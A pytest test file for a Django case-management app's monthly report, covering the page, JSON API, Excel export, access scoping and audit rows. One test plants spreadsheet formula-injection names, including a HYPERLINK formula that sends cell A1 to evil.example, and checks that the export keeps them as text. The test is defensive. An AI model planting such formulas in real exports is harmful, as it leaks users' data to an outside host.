# ruff: noqa: F811 — the case fixtures are imported from cases/tests/conftest.py
"""The monthly report 月报: the page, the JSON and the workbook carry the KPI read API's
numbers (gongzhi.cases.kpis), month on month.

The history is played through the real services while a clock moves:

    September 2026   S1 grid A, category 1: dispatched, handled, closed, called back
                         (satisfied) — all in September
                     S2 grid A, category 1: dispatched, never handled (overdue by December)
    October 2026     O1 grid A, category 1: dispatched, handled, sent back, handled again,
                         closed, called back (solved: no, basically satisfied)
                     O2 grid C, category 2: dispatched to the other department, open
                     O3 grid A, category 2: not registered (rejected)
    November 2026    nothing
    the report is taken on 5 December 2026
"""

import datetime as dt
import io

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from python_calamine import CalamineWorkbook

from gongzhi.accounts.models import User
from gongzhi.cases import kpis, services
from gongzhi.cases.models import Category
from gongzhi.cases.tests.conftest import _media, category, dispatched, report  # noqa: F401
from gongzhi.cases.tests.support import Clock, at
from gongzhi.command import monthly, monthly_xlsx
from gongzhi.core.errors import Invalid, NotFound
from gongzhi.core.models import AuditLog
from gongzhi.core.roles import Role
from gongzhi.factories import PositionFactory, UserFactory

OCTOBER = {"start": dt.date(2026, 10, 1), "end": dt.date(2026, 10, 31)}
SEPTEMBER = {"start": dt.date(2026, 9, 1), "end": dt.date(2026, 9, 30)}
PAGE = "/command/monthly/"
XLSX_PAGE = "/command/monthly.xlsx"
API = "/api/v1/command/monthly"


@pytest.fixture
def clock(monkeypatch):
    return Clock(at(2026, 9, 8, 9)).install(monkeypatch)


@pytest.fixture
def categories(category):
    other = (
        Category.objects.filter(parent__isnull=False, is_active=True)
        .exclude(pk=category.pk)
        .order_by("sort", "code")[0]
    )
    return category, other


def _close(case, people, clock, *, fail_first=False, rating="satisfied", solved=True):
    op, handler = people.op_sub, people.handler
    clock.advance(hours=2)
    services.case_accept(actor=handler, case_id=case.pk)
    clock.advance(hours=3)
    services.case_handle(actor=handler, case_id=case.pk, result="已清理")
    if fail_first:
        clock.advance(hours=2)
        services.case_verify(actor=op, case_id=case.pk, passed=False, note="未清理干净")
        clock.advance(hours=3)
        services.case_handle(actor=handler, case_id=case.pk, result="已彻底清理")
    clock.advance(hours=2)
    services.case_verify(actor=op, case_id=case.pk, passed=True)
    clock.advance(hours=2)
    services.case_callback(actor=op, case_id=case.pk, solved=solved, rating=rating)


@pytest.fixture
def history(clock, people, tree, report, dispatched, categories):
    cat1, cat2 = categories
    clock.set(2026, 9, 8, 9)
    s1 = dispatched(category_id=cat1.pk)
    _close(s1, people, clock)
    clock.set(2026, 9, 15, 10)
    dispatched(category_id=cat1.pk)
    clock.set(2026, 10, 9, 9)
    o1 = dispatched(category_id=cat1.pk)
    _close(o1, people, clock, fail_first=True, rating="basically", solved=False)
    clock.set(2026, 10, 12, 10)
    o2 = report(actor=people.op_sub, category_id=cat2.pk, grid_id=tree.grid_c.pk)
    services.case_dispatch(actor=people.op_sub, case_id=o2.pk, department_id=tree.department2.pk)
    clock.set(2026, 10, 20, 10)
    o3 = report(category_id=cat2.pk)
    services.case_reject(actor=people.op_sub, case_id=o3.pk, reason="不属于受理范围")
    clock.set(2026, 12, 5, 10)
    return cat1, cat2


def _fresh(user):
    """The user as a new request sees it (no cached positions)."""
    return User.objects.get(pk=user.pk)


def _rates(report):
    return {r.key: (r.numerator, r.denominator, r.value) for r in report.rates}


# -- the report from the KPI read API ----------------------------------------------


def test_monthly_report__carries_the_kpis_of_the_month_and_the_month_before(history, people, tree):
    cat1, cat2 = history
    op = people.op_district
    report = monthly.monthly_report(op, tree.sub.code, 2026, 10)

    expected = kpis.case_kpis(op, unit_code=tree.sub.code, **OCTOBER)
    before = kpis.case_kpis(op, unit_code=tree.sub.code, **SEPTEMBER)
    assert report.summary.counts == expected.counts
    assert report.previous.counts == before.counts
    # Hand-counted: O1 and O2 received (O3 rejected); S1 and S2 the month before.
    assert (expected.counts["received"], expected.counts["rejected"]) == (2, 1)
    assert before.counts["received"] == 2
    assert expected.counts["overdue"] == 1 and before.counts["overdue"] == 1  # O2, S2
    assert (expected.counts["reworked"], expected.counts["verified"]) == (1, 2)
    assert [(line.key, line.rate.value, line.previous.value) for line in report.kpis] == [
        (r.key, r.value, before.rate(r.key).value) for r in expected.rates
    ]
    satisfaction = next(line for line in report.kpis if line.key == "satisfaction")
    assert (satisfaction.rate.value, satisfaction.previous.value) == (1.0, 1.0)
    resolution = next(line for line in report.kpis if line.key == "resolution")
    assert (resolution.rate.value, resolution.previous.value, resolution.change) == (
        0.0,
        1.0,
        -100.0,
    )
    received = next(c for c in report.counts if c.key == "received")
    assert (received.value, received.previous, received.change, received.change_ratio) == (
        2,
        2,
        0,
        0.0,
    )

    children = kpis.case_kpis_by_child(op, unit_code=tree.sub.code, **OCTOBER)
    assert [(r.unit_code, r.counts) for r in report.children] == [
        (r.unit_code, r.counts) for r in children
    ]
    assert [r.unit_code for r in report.children] == [tree.community.code, tree.community2.code]
    departments = kpis.case_kpis_by_department(op, unit_code=tree.sub.code, **OCTOBER)
    assert [(r.unit_name, r.counts) for r in report.departments] == [
        (r.unit_name, r.counts) for r in departments
    ]
    assert {r.unit_name: r.counts["received"] for r in report.departments} == {
        tree.department.name: 1,
        tree.department2.name: 1,
    }
    assert [(c.key, c.received, c.share, c.previous, c.change) for c in report.categories] == [
        (cat1.pk, 1, 0.5, 2, -1),
        (cat2.pk, 1, 0.5, 0, 1),
    ]
    assert report.categories[0].change_ratio == -0.5
    assert report.categories[1].change_ratio is None
    assert report.communities == []  # only a district's report lists every community
    assert not report.is_empty


def test_monthly_report__district_lists_subdistricts_and_every_community(history, people, tree):
    op = people.op_district
    report = monthly.monthly_report(op, tree.district.code, 2026, 10)
    subdistricts = kpis.case_kpis_by_child(op, unit_code=tree.district.code, **OCTOBER)
    assert [(r.unit_code, r.counts) for r in report.children] == [
        (r.unit_code, r.counts) for r in subdistricts
    ]
    expected = []
    for sub in subdistricts:
        for c in kpis.case_kpis_by_child(op, unit_code=sub.unit_code, **OCTOBER):
            expected.append((sub.unit_name, c.unit_code, c.unit_name, c.counts))
    assert [
        (c.subdistrict, c.report.unit_code, c.report.unit_name, c.report.counts)
        for c in report.communities
    ] == expected
    assert [c.report.unit_code for c in report.communities] == [
        tree.community.code,
        tree.community2.code,
    ]


def test_monthly_report__empty_month_is_zeros_with_a_note(history, people, tree):
    report = monthly.monthly_report(people.op_sub, tree.sub.code, 2026, 11)
    assert report.is_empty
    assert all(v == 0 for v in report.summary.counts.values())
    assert all(line.rate.value is None for line in report.kpis)
    assert report.categories == [] and report.departments == []
    assert "2026-11" in report.notes[0] and tree.sub.name in report.notes[0]
    # Last month had cases: the counts say how many fewer.
    received = next(c for c in report.counts if c.key == "received")
    assert (received.value, received.previous, received.change) == (0, 2, -2)


def test_monthly_report__current_month_is_allowed_and_says_it_is_not_over(history, people, tree):
    report = monthly.monthly_report(people.op_sub, tree.sub.code, 2026, 12)
    assert any("2026-12" in note for note in report.notes[:2])


@pytest.mark.parametrize(
    "year, month",
    [(2026, 13), (2026, 0), (2027, 1), (2026, 8), (1999, 12)],
    ids=["month-13", "month-0", "future", "before-data", "long-ago"],
)
def test_monthly_report__bad_month_is_invalid_month(history, people, tree, year, month):
    with pytest.raises(Invalid) as exc:
        monthly.monthly_report(people.op_sub, tree.sub.code, year, month)
    assert exc.value.code == "invalid_month" and exc.value.message


def _other_leader(tree):
    user = UserFactory(username="leader2")
    PositionFactory(user=user, role=Role.LEADER, org_unit=tree.sub2)
    return user


@pytest.mark.parametrize("who", ["other_leader", "gw_a", "handler", "resident", "nobody"])
def test_monthly_report__unit_outside_command_scope_is_404(history, people, tree, who):
    user = _other_leader(tree) if who == "other_leader" else getattr(people, who)
    with pytest.raises(NotFound):
        monthly.monthly_report(user, tree.sub.code, 2026, 10)
    with pytest.raises(NotFound):
        monthly.monthly_report(people.op_sub, "990101001999", 2026, 10)


def test_monthly_report__query_count_does_not_grow_with_cases(
    clock, people, tree, report, categories
):
    def cases(n):
        clock.set(2026, 10, 3, 9)
        for i in range(n):
            report(category_id=categories[i % 2].pk)
            clock.advance(minutes=7)
        clock.set(2026, 11, 20, 9)

    def count():
        user = _fresh(people.op_district)
        with CaptureQueriesContext(connection) as ctx:
            result = monthly.monthly_report(user, tree.district.code, 2026, 10)
        return len(ctx.captured_queries), result.summary.counts["received"]

    cases(3)
    few, received = count()
    assert received == 3
    cases(27)
    many, received = count()
    assert received == 30
    assert few == many
    assert many <= 78, many  # the loop's rollups, the kinds' (CaseRollupCount), the sections


# -- the workbook ------------------------------------------------------------------


def _sheets(data: bytes) -> dict[str, list[list]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}


def _value(rate):
    return "—" if rate.value is None else pytest.approx(rate.value)


def _table_rows(rows, first_columns):
    """Rows below the header (row 4), as {name: row} with the text columns stripped."""
    return {tuple(r[:first_columns]): r[first_columns:] for r in rows[4:] if r[0]}


def _expected_cells(report):
    out = []
    for key, _label, kind in monthly.columns():
        out.append(report.counts[key] if kind == "count" else _value(report.rate(key)))
    return out


def test_monthly_xlsx__sheets_hold_the_kpis(history, people, tree):
    op = people.op_district
    report = monthly.monthly_report(op, tree.district.code, 2026, 10)
    sheets = _sheets(monthly_xlsx.monthly_xlsx(report))
    names = list(sheets)
    assert len(names) == 5  # overview, subdistricts, communities, handling units, categories

    overview = sheets[names[0]]
    assert overview[0][0].startswith(f"{tree.district.name} 2026-10")
    expected = kpis.case_kpis(op, unit_code=tree.district.code, **OCTOBER)
    before = kpis.case_kpis(op, unit_code=tree.district.code, **SEPTEMBER)
    kpi_rows = overview[4 : 4 + len(kpis.rate_keys())]
    for row, rate in zip(kpi_rows, expected.rates, strict=True):
        assert row[0] == str(rate.label)
        assert row[1:5] == [
            rate.numerator,
            rate.denominator,
            _value(rate),
            _value(before.rate(rate.key)),
        ]
    resolution = kpi_rows[[r.key for r in expected.rates].index("resolution")]
    assert resolution[5] == pytest.approx(-100.0)

    subdistricts = _table_rows(sheets[names[1]], 1)
    for r in kpis.case_kpis_by_child(op, unit_code=tree.district.code, **OCTOBER):
        assert subdistricts[(r.unit_name,)] == _expected_cells(r)
    assert subdistricts[(sheets[names[1]][-1][0],)] == _expected_cells(expected)  # total

    communities = _table_rows(sheets[names[2]], 2)
    for c in kpis.case_kpis_by_child(op, unit_code=tree.sub.code, **OCTOBER):
        assert communities[(tree.sub.name, c.unit_name)] == _expected_cells(c)

    departments = _table_rows(sheets[names[3]], 1)
    for r in kpis.case_kpis_by_department(op, unit_code=tree.district.code, **OCTOBER):
        assert departments[(r.unit_name,)] == _expected_cells(r)
    assert len(departments) == 2

    categories = sheets[names[4]][4:]
    rows = kpis.breakdown(op, unit_code=tree.district.code, **OCTOBER, by="category")
    assert [r[1:4] for r in categories] == [
        [str(r["label"]), r["counts"]["received"], pytest.approx(0.5)] for r in rows
    ]


def test_monthly_xlsx__empty_month_says_none(history, people, tree):
    report = monthly.monthly_report(people.op_sub, tree.sub.code, 2026, 11)
    sheets = _sheets(monthly_xlsx.monthly_xlsx(report))
    names = list(sheets)
    assert len(names) == 4  # overview, communities, handling units, categories
    overview = sheets[names[0]]
    assert [row[1:3] for row in overview[4 : 4 + len(kpis.rate_keys())]] == [[0, 0]] * len(
        kpis.rate_keys()
    )
    assert all(row[3] == "—" for row in overview[4 : 4 + len(kpis.rate_keys())])
    assert any(report.notes[0] in str(row[0]) for row in overview)


def test_monthly_xlsx__names_that_look_like_formulas_stay_text(history, people, tree, categories):
    from gongzhi.core.tests.xlsx_support import assert_text_kept
    from gongzhi.orgs.models import Department, OrgUnit

    evil_unit, evil_department, evil_category = (
        '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")',
        "@SUM(A1:A9)",
        "-2+3",
    )
    OrgUnit.objects.filter(pk=tree.community.pk).update(name=evil_unit)
    Department.objects.filter(pk=tree.department.pk).update(name=evil_department)
    Category.objects.filter(pk=categories[0].pk).update(name=evil_category)

    report = monthly.monthly_report(people.op_district, tree.district.code, 2026, 10)
    data = monthly_xlsx.monthly_xlsx(report)

    assert_text_kept(data, (evil_unit, evil_department, evil_category))


# -- the page ------------------------------------------------------------------------


def test_monthly_page__shows_the_report(history, people, tree, login):
    op = people.op_sub
    response = login(op).get(PAGE, {"unit": tree.sub.code, "month": "2026-10"})
    assert response.status_code == 200
    html = response.content.decode()
    expected = kpis.case_kpis(op, unit_code=tree.sub.code, **OCTOBER)
    report = response.context["report"]
    assert report.summary.counts == expected.counts
    for rate in expected.rates:
        shown = "—" if rate.value is None else f"{rate.percent:.1f}%"
        assert f'<tr data-kpi="{rate.key}"><th scope="row">{rate.label}</th>' in html
        assert (
            f'<td class="num">{rate.numerator}</td><td class="num">{rate.denominator}</td>' in html
        )
        assert f'<td class="num">{shown}</td>' in html
    for name in (tree.community.name, tree.community2.name, tree.department.name):
        assert name in html
    assert reverse("command_monthly_xlsx") + f"?unit={tree.sub.code}&amp;month=2026-10" in html
    assert "data-print" in html  # the print button (web/static/js/site.js)
    assert not AuditLog.objects.filter(action="command.monthly_export").exists()


def test_monthly_page__defaults_to_last_month_and_the_first_unit(history, people, tree, login):
    response = login(people.op_sub).get(PAGE)
    assert response.status_code == 200
    report = response.context["report"]
    assert (report.unit_code, report.label) == (tree.sub.code, "2026-11")
    assert report.is_empty
    assert report.notes[0] in response.content.decode()
    assert [u.code for u in response.context["units"]] == [
        tree.sub.code,
        tree.community.code,
        tree.community2.code,
    ]


@pytest.mark.parametrize("month", ["2026-13", "abc", "2027-01", "2026-08"])
def test_monthly_page__bad_month_is_400_with_the_message(history, people, tree, login, month):
    response = login(people.op_sub).get(PAGE, {"unit": tree.sub.code, "month": month})
    assert response.status_code == 400
    assert response.context["report"] is None
    error = response.context["error"]
    assert error and f'<div class="alert alert-error" role="alert">{error}</div>' in (
        response.content.decode()
    )


@pytest.mark.parametrize("who", ["other_leader", "gw_a", "handler"])
def test_monthly_page__not_yours_is_404(history, people, tree, login, who):
    user = _other_leader(tree) if who == "other_leader" else getattr(people, who)
    client = login(user)
    for path in (PAGE, XLSX_PAGE):
        response = client.get(path, {"unit": tree.sub.code, "month": "2026-10"})
        assert response.status_code == 404, path
    assert not AuditLog.objects.filter(action="command.monthly_export").exists()


def test_monthly_page__anonymous_is_sent_to_login(history, tree):
    response = Client().get(PAGE, {"unit": tree.sub.code, "month": "2026-10"})
    assert response.status_code == 302 and "/login/" in response["Location"]


def test_monthly_download__workbook_with_chinese_name_and_audit_row(history, people, tree, login):
    op = people.op_sub
    response = login(op).get(XLSX_PAGE, {"unit": tree.sub.code, "month": "2026-10"})
    assert response.status_code == 200
    assert response["Content-Type"] == monthly_xlsx_type()
    disposition = response["Content-Disposition"]
    assert disposition.startswith(f'attachment; filename="monthly-{tree.sub.code}-2026-10.xlsx"')
    assert "filename*=utf-8''" in disposition
    from urllib.parse import unquote

    assert unquote(disposition.split("filename*=utf-8''")[1]) == (
        f"{monthly._('Monthly report')}-{tree.sub.name}-2026-10.xlsx"
    )
    sheets = _sheets(response.content)
    overview = sheets[next(iter(sheets))]
    expected = kpis.case_kpis(op, unit_code=tree.sub.code, **OCTOBER)
    assert [row[1] for row in overview[4 : 4 + len(kpis.rate_keys())]] == [
        r.numerator for r in expected.rates
    ]
    log = AuditLog.objects.get(action="command.monthly_export")
    assert log.actor == op
    assert log.changes == {"unit": tree.sub.code, "month": "2026-10"}
    assert log.object_id == tree.sub.code
    # Each download is its own row.
    login(op).get(XLSX_PAGE, {"unit": tree.sub.code, "month": "2026-09"})
    assert AuditLog.objects.filter(action="command.monthly_export").count() == 2


def monthly_xlsx_type():
    from gongzhi.core.xlsx import CONTENT_TYPE as XLSX

    return XLSX


@pytest.mark.parametrize("month", ["2026-13", "abc", "2027-01"])
def test_monthly_download__bad_month_is_400_and_not_audited(history, people, tree, login, month):
    response = login(people.op_sub).get(XLSX_PAGE, {"unit": tree.sub.code, "month": month})
    assert response.status_code == 400
    assert not AuditLog.objects.filter(action="command.monthly_export").exists()


def test_monthly_page__query_count_is_pinned(
    history, people, tree, login, django_assert_max_num_queries
):
    client = login(people.op_district)
    # The sections: inspections 4, care 10, disputes 6, points 4, volunteers 6, sharing 3,
    # decide 5.
    with django_assert_max_num_queries(83):
        response = client.get(PAGE, {"unit": tree.district.code, "month": "2026-10"})
    assert response.status_code == 200


# -- the API -------------------------------------------------------------------------


def test_api_monthly__json_equals_the_kpis(history, people, tree, login):
    op = people.op_sub
    response = login(op).get(API, {"unit": tree.sub.code, "month": "2026-10"})
    assert response.status_code == 200
    body = response.json()
    expected = kpis.case_kpis(op, unit_code=tree.sub.code, **OCTOBER)
    before = kpis.case_kpis(op, unit_code=tree.sub.code, **SEPTEMBER)
    assert (body["month"], body["previous_month"], body["empty"]) == ("2026-10", "2026-09", False)
    assert body["summary"]["counts"] == expected.counts
    assert body["previous"]["counts"] == before.counts
    assert [
        (k["key"], k["numerator"], k["denominator"], k["value"], k["previous"])
        for k in body["kpis"]
    ] == [
        (r.key, r.numerator, r.denominator, r.value, before.rate(r.key).value)
        for r in expected.rates
    ]
    children = kpis.case_kpis_by_child(op, unit_code=tree.sub.code, **OCTOBER)
    assert [(c["unit_code"], c["counts"]) for c in body["children"]] == [
        (r.unit_code, r.counts) for r in children
    ]
    departments = kpis.case_kpis_by_department(op, unit_code=tree.sub.code, **OCTOBER)
    assert [(d["unit_name"], d["counts"]) for d in body["departments"]] == [
        (r.unit_name, r.counts) for r in departments
    ]
    assert [(c["received"], c["share"], c["previous"]) for c in body["categories"]] == [
        (1, 0.5, 2),
        (1, 0.5, 0),
    ]
    assert body["communities"] == []
    assert not AuditLog.objects.filter(action="command.monthly_export").exists()


@pytest.mark.parametrize("month", ["2026-13", "abc", "2027-01", "2026-08"])
def test_api_monthly__bad_month_is_400_invalid_month(history, people, tree, login, month):
    for path in (API, API + ".xlsx"):
        response = login(people.op_sub).get(path, {"unit": tree.sub.code, "month": month})
        assert response.status_code == 400, path
        assert response.json()["code"] == "invalid_month" and response.json()["message"]


@pytest.mark.parametrize("who", ["other_leader", "gw_a", "handler"])
def test_api_monthly__not_yours_is_404(history, people, tree, login, who):
    user = _other_leader(tree) if who == "other_leader" else getattr(people, who)
    for path in (API, API + ".xlsx"):
        response = login(user).get(path, {"unit": tree.sub.code, "month": "2026-10"})
        assert response.status_code == 404, path
        assert response.json()["code"] == "not_found"
    assert Client().get(API, {"unit": tree.sub.code, "month": "2026-10"}).status_code == 401


def test_api_monthly_xlsx__the_file_and_its_audit_row(history, people, tree, login):
    response = login(people.leader).get(API + ".xlsx", {"unit": tree.sub.code, "month": "2026-10"})
    assert response.status_code == 200
    assert response["Content-Type"] == monthly_xlsx_type()
    assert "filename*=utf-8''" in response["Content-Disposition"]
    sheets = _sheets(response.content)
    assert len(sheets) == 4
    log = AuditLog.objects.get(action="command.monthly_export")
    assert (log.actor, log.changes) == (people.leader, {"unit": tree.sub.code, "month": "2026-10"})


def test_monthly_report__community_worker_gets_the_grids_of_the_community(history, people, tree):
    worker = people.community_worker
    report = monthly.monthly_report(worker, tree.community.code, 2026, 10)
    grids = kpis.case_kpis_by_child(worker, unit_code=tree.community.code, **OCTOBER)
    assert [(r.unit_code, r.counts) for r in report.children] == [
        (r.unit_code, r.counts) for r in grids
    ]
    assert report.summary.counts["received"] == 1  # O1 in grid A; O2 is in 翠竹
    sheets = _sheets(monthly_xlsx.monthly_xlsx(report))
    assert len(sheets) == 4
    with pytest.raises(NotFound):  # the community next door
        monthly.monthly_report(worker, tree.community2.code, 2026, 10)
